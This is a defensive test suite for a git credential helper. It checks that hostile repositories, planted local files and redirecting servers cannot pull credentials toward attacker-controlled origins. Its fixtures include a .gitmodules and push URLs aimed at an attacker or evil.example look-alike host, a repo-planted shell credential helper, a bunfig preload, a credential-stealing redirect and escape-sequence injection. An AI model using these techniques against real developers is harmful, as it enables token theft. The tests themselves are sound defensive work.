// Attacks as a hostile repository, a planted file or a lying server would make them, with
// real git against the emulator and a recording attacker server on loopback. The rule under
// test: no credential of any kind reaches an origin the user did not configure
// (docs/credential-flow.md, "Origin policy": a hostile repository chooses the URL).
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { configuredHome, gitRequests, helperGet, mints } from '../../support/artifacts-home.js';
import { startAttacker, type Attacker, startAttackWorld, tokensIn, type AttackWorld } from '../../support/attacker.js';
import { startEmulator, type Emulator } from '../../support/emulator.js';
import { credentialBundle, type GitHome } from '../../support/git-home.js';
import { gitsUnderTest, pathGit } from '../../support/gits.js';
import { commitFile, settledLog } from '../remote/support.js';

/**
 * A "registered" origin that challenges, then redirects the authenticated request to the
 * attacker: what a compromised or lying server could do.
 */
function redirectingLiar(attacker: Attacker): Promise<Attacker> {
  return startAttacker((req, res) => {
    if (!req.headers.authorization) {
      res.writeHead(401, { 'WWW-Authenticate': 'Basic realm="artifacts"' });
      res.end();
      return;
    }
    res.writeHead(302, { Location: `${attacker.url}${req.url}` });
    res.end();
  });
}

describe.each(gitsUnderTest())('hostile repositories with $label', (git) => {
  let emu: Emulator;
  let attacker: Attacker;
  let home: GitHome;
  let n = 0;
  const ok = async (args: string[], cwd?: string, env?: NodeJS.ProcessEnv) => {
    const r = await home.git(args, { cwd: cwd && path.join(home.dir, cwd), env });
    expect(r.code, `git ${args.join(' ')}\n${r.stderr}`).toBe(0);
    return r;
  };
  /** Nothing reached the attacker with credentials, and no token was minted for the victim. */
  const expectNothingLeaked = async (victim: string) => {
    expect(attacker.withCredentials()).toEqual([]);
    expect(mints(await settledLog(emu)).filter((m) => m.repo === victim)).toEqual([]);
  };

  let world: AttackWorld | undefined;
  beforeAll(async () => {
    world = await startAttackWorld(git);
    ({ emu, attacker, home } = world);
  });
  afterAll(() => world?.stop());

  it('a .gitmodules naming artifacts::<attacker>/git/<ns>/<victim>.git gets nothing, not even a request', async () => {
    const sup = await emu.createRepo('default', `super-${++n}`);
    const dir = `sup-${n}`;
    await ok(['clone', '-q', sup.remote, dir]);
    const hostile = `artifacts::${attacker.url}/git/default/victim.git`;
    // What a hostile repository ships: a gitlink plus .gitmodules pointing at the attacker.
    writeFileSync(path.join(home.dir, dir, '.gitmodules'), `[submodule "evil"]\n\tpath = evil\n\turl = ${hostile}\n`);
    const commit = execFileSync('git', ['-C', path.join(home.dir, dir), 'hash-object', '-t', 'commit', '--stdin', '-w'], {
      input: `tree 4b825dc642cb6eb9a060e54bf8d69288fbee4904\nauthor a <a@b> 0 +0000\ncommitter a <a@b> 0 +0000\n\nx\n`,
      encoding: 'utf8',
      env: home.env,
    }).trim();
    await ok(['update-index', '--add', '--cacheinfo', `160000,${commit},evil`], dir);
    await ok(['add', '.gitmodules'], dir);
    await ok(['commit', '-q', '-m', 'submodule'], dir);
    await ok(['push', '-q', 'origin', 'main'], dir);
    attacker.seen.length = 0;
    await emu.clearLog();

    const r = await home.git(['clone', '--recurse-submodules', sup.remote, `victim-clone-${n}`]);
    expect(r.code).not.toBe(0);
    expect(r.stderr).toContain(`git-remote-artifacts: refusing to send Artifacts credentials to ${attacker.url}`);
    expect(r.stderr).toContain(`configure --git-url ${attacker.url}`);
    expect(attacker.seen).toEqual([]);
    await expectNothingLeaked('victim');
  });

  it.each([
    ['push to artifacts::<attacker loopback>', () => `artifacts::${attacker.url}/git/default/victim.git`],
    ['push to artifacts::https://<attacker host>', () => 'artifacts::https://evil.example/git/default/victim.git'],
    ['push to a Cloudflare look-alike', () => 'artifacts::https://0123456789abcdef0123456789abcdef.artifacts.cloudflare.net.evil.example/git/default/victim.git'],
    ['push to our emulator under another name (localhost)', () => `artifacts::${emu.url.replace('127.0.0.1', 'localhost')}/git/default/victim.git`],
  ])('%s: refused before any request or mint', async (_name, url) => {
    const dir = `p-${++n}`;
    await ok(['init', '-q', dir]);
    await commitFile(home, dir, 'f.txt', 'f');
    attacker.seen.length = 0;
    await emu.clearLog();
    const r = await home.git(['push', url(), 'HEAD:refs/heads/main'], { cwd: path.join(home.dir, dir) });
    expect(r.code).not.toBe(0);
    expect(r.stderr).toMatch(/refusing to send Artifacts credentials to \S+: it is not a Cloudflare Artifacts host nor an endpoint you registered/);
    expect(attacker.seen).toEqual([]);
    await expectNothingLeaked('victim');
    expect(gitRequests(await settledLog(emu))).toEqual([]);
  });

  it("a repository's own .git/config and -c cannot register the attacker or move the API", async () => {
    const dir = `local-${++n}`;
    await ok(['init', '-q', dir]);
    await commitFile(home, dir, 'f.txt', 'f');
    // A helper line exactly like configure's, and an API URL, both in repo-local config.
    const ours = `!f() { case "$1" in get|erase) exec ${process.execPath} ${credentialBundle} --git-url ${attacker.url} --api-url ${emu.apiUrl} --account ${emu.account} "$@" ;; esac; }; f`;
    await ok(['config', `credential.${attacker.url}.helper`, ours], dir);
    await ok(['config', 'artifacts.apiUrl', `${attacker.url}/client/v4`], dir);
    attacker.seen.length = 0;
    await emu.clearLog();
    const pushed = await home.git(['push', `artifacts::${attacker.url}/git/default/victim.git`, 'HEAD:refs/heads/main'], { cwd: path.join(home.dir, dir) });
    expect(pushed.code).not.toBe(0);
    expect(pushed.stderr).toContain(`refusing to send Artifacts credentials to ${attacker.url}`);
    const viaC = await home.git(['-c', `credential.${attacker.url}.helper=${ours}`, 'ls-remote', `artifacts::${attacker.url}/git/default/victim.git`], {
      cwd: path.join(home.dir, dir),
    });
    expect(viaC.code).not.toBe(0);
    // artifacts:// still resolves through the user's global API, never the repo's.
    const named = await home.git(['ls-remote', 'artifacts://default/victim'], { cwd: path.join(home.dir, dir) });
    expect(named.code, named.stderr).toBe(0);
    expect(attacker.seen).toEqual([]);
  });

  it("a repository's .env and bunfig.toml are not read: git starts the helpers inside the repo, and a Bun executable would load both from there", async () => {
    const repo = await emu.createRepo('default', `dotenv-${++n}`);
    const name = `dotenv-${n}`;
    await ok(['init', '-q', name]);
    const dir = path.join(home.dir, name);
    const marker = path.join(home.dir, `preloaded-${n}`);
    // .env: a trace (visible on stderr) and an API token that would make the mint fail.
    writeFileSync(path.join(dir, '.env'), 'ARTIFACTS_TRACE=1\nCLOUDFLARE_API_TOKEN=from-the-repo\n');
    writeFileSync(path.join(dir, 'preload.js'), `require('fs').writeFileSync(${JSON.stringify(marker)}, 'ran')\n`);
    writeFileSync(path.join(dir, 'bunfig.toml'), 'preload = ["./preload.js"]\n');
    const r = await ok(['ls-remote', repo.remote], name);
    expect(r.stderr).not.toMatch(/git-credential-artifacts\[\d+\]/);
    expect(existsSync(marker)).toBe(false);
    // The same through git-remote-artifacts, which git also starts in the repo.
    const viaWrapper = await ok(['ls-remote', `artifacts::${repo.remote}`], name);
    expect(viaWrapper.stderr).not.toMatch(/git-remote-artifacts\[\d+\]/);
    expect(existsSync(marker)).toBe(false);
  });

  it('a token cached for one origin is never answered to another origin naming the same repo', async () => {
    const remote = (await emu.createRepo('default', `shared-${++n}`)).remote;
    const ask = (origin: string) => {
      const u = new URL(origin);
      return home.run(process.execPath, [credentialBundle, '--git-url', origin, '--api-url', emu.apiUrl, '--account', emu.account, 'get'], {
        input: `protocol=http\nhost=${u.host}\npath=git/default/shared-${n}.git\n`,
      });
    };
    await emu.clearLog();
    const first = await ask(emu.url);
    expect(first.code, first.stderr).toBe(0);
    const other = await ask(emu.url.replace('127.0.0.1', 'localhost'));
    expect(other.code, other.stderr).toBe(0);
    const secret = (out: string) => /^password=(.*)$/m.exec(out)?.[1];
    expect(secret(first.stdout)).toBeTruthy();
    expect(secret(other.stdout)).toBeTruthy();
    expect(secret(other.stdout)).not.toBe(secret(first.stdout));
    expect(mints(await settledLog(emu))).toHaveLength(2);
    expect(remote).toContain(emu.url);
  });

  it('a FIFO as the operation file: get answers (read) instead of hanging', async () => {
    const remote = (await emu.createRepo('default', `fifo-${++n}`)).remote;
    const fifo = path.join(home.dir, `op-fifo-${n}`);
    execFileSync('mkfifo', [fifo]);
    const r = await helperGet(home, emu, `protocol=http\nhost=${new URL(remote).host}\npath=git/default/fifo-${n}.git\n`, {
      ARTIFACTS_OPERATION_FILE: fifo,
      ARTIFACTS_TRACE: '1',
    });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toMatch(/^password=/m);
    expect(r.stderr).toMatch(/scope scope=read source="default \(operation file not private\)"/);
  });

  it('an API error body that echoes the API token (any format) is shown redacted', async () => {
    await emu.createRepo('default', `echo-${++n}`);
    await emu.faults({ routes: [{ route: 'mint', status: 400, message: `bad request from Authorization: Bearer ${emu.apiToken}; token was ${emu.apiToken}\n\u001b[31mforged line` }] });
    const r = await helperGet(home, emu, `protocol=http\nhost=${new URL(emu.url).host}\npath=git/default/echo-${n}.git\n`, { ARTIFACTS_TRACE: '1' });
    await emu.clearFaults();
    expect(r.code).not.toBe(0);
    expect(r.stderr).toContain('bad request from');
    expect(r.stderr).not.toContain(emu.apiToken);
    expect(r.stderr).not.toContain('\u001b');
    // The server's newline did not start a line of its own.
    expect(r.stderr.split('\n').filter((l) => l.startsWith('forged'))).toEqual([]);
  });

  it('a registered server that redirects to an attacker hands it no credential', async () => {
    await emu.createRepo('default', `redir-${++n}`);
    const liar = await redirectingLiar(attacker);
    try {
      const r0 = await home.run(process.execPath, [credentialBundle, 'configure', '--git-url', liar.url, '--api-url', emu.apiUrl, '--account', emu.account]);
      expect(r0.code, r0.stderr).toBe(0);
      attacker.seen.length = 0;
      const r = await home.git(['ls-remote', `${liar.url}/git/default/redir-${n}.git`]);
      expect(r.code).not.toBe(0);
      expect(liar.withCredentials().length).toBeGreaterThan(0); // the registered origin did get it
      expect(attacker.withCredentials()).toEqual([]);
    } finally {
      await liar.stop();
    }
  });

  // The wrapper answers its child from the cache through a sh helper (src/remote/answer-helper.ts):
  // that answer must stay with the child's own remote when the server sends git elsewhere.
  it('a registered server that redirects to an attacker, through the wrapper with the token cached: the attacker gets nothing', async () => {
    await emu.createRepo('default', `redir-w-${++n}`);
    const liar = await redirectingLiar(attacker);
    try {
      const r0 = await home.run(process.execPath, [credentialBundle, 'configure', '--git-url', liar.url, '--api-url', emu.apiUrl, '--account', emu.account]);
      expect(r0.code, r0.stderr).toBe(0);
      const url = `artifacts::${liar.url}/git/default/redir-w-${n}.git`;
      // A read token cached for the registered origin, as any earlier fetch leaves it (git's
      // own run through the redirect would erase it again on the attacker's 401).
      const host = new URL(liar.url).host;
      const primed = await home.run(process.execPath, [credentialBundle, '--git-url', liar.url, '--api-url', emu.apiUrl, '--account', emu.account, 'get'], {
        input: `protocol=http\nhost=${host}\npath=git/default/redir-w-${n}.git\n\n`,
      });
      expect(primed.stdout, primed.stderr).toMatch(/^password=/m);
      attacker.seen.length = 0;
      const r = await home.git(['ls-remote', url], { env: { ARTIFACTS_TRACE: '1' } });
      expect(r.code).not.toBe(0);
      expect(r.stderr).toMatch(/git-remote-artifacts\[\d+\] answer\.prepared scope=read/);
      expect(tokensIn(liar.seen).length).toBeGreaterThan(0); // the registered origin did get it
      expect(attacker.seen.length).toBeGreaterThan(0); // git did follow, and asked for the attacker's host
      expect(attacker.withCredentials()).toEqual([]);
    } finally {
      await liar.stop();
    }
  });
});

describe(`hostile local files with ${pathGit().label}`, () => {
  it('a FIFO planted as a cache entry is refused at once, not waited on', async () => {
    const [git] = gitsUnderTest();
    const emu = await startEmulator();
    const home = await configuredHome(git!, emu);
    try {
      await emu.createRepo('default', 'planted');
      const input = `protocol=http\nhost=${new URL(emu.url).host}\npath=git/default/planted.git\n`;
      const first = await helperGet(home, emu, input);
      expect(first.code, first.stderr).toBe(0);
      // Replace every cache entry by a FIFO of the same name.
      const dir = path.join(home.env.XDG_RUNTIME_DIR!, 'git-credential-artifacts');
      mkdirSync(dir, { recursive: true });
      for (const name of execFileSync('ls', [dir], { encoding: 'utf8' }).split('\n').filter((f) => f.endsWith('.json'))) {
        execFileSync('rm', [path.join(dir, name)]);
        execFileSync('mkfifo', ['-m', '600', path.join(dir, name)]);
      }
      const again = await helperGet(home, emu, input);
      expect(again.stdout).not.toMatch(/password=/);
      expect(again.stderr).toMatch(/not a regular file/);
    } finally {
      await emu.stop();
      home.cleanup();
    }
  });
});
